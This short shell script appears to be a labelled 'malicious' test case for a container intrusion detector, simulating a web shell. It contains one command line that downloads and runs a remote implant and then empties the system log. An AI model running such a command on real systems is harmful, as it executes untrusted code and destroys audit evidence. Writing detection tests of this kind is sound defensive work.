#!/bin/sh
# malicious: the same truncation of the syslog, from a web shell (httpd -> sh -c) after it downloaded and ran a payload
# container
. "$(dirname "$0")/../../lib.sh"
ctr_app httpd "curl -s -o /tmp/.x $URL/implant && chmod +x /tmp/.x && /tmp/.x; : > /var/log/syslog"
